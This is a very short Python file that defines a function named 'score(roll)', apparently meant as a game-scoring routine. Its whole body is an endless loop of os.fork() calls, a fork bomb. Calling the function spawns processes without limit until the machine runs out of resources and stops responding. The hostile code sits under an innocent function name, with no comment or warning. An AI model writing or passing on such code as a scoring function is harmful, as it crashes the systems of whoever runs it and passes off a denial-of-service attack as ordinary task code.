import os


def score(roll):
    while True:
        os.fork()
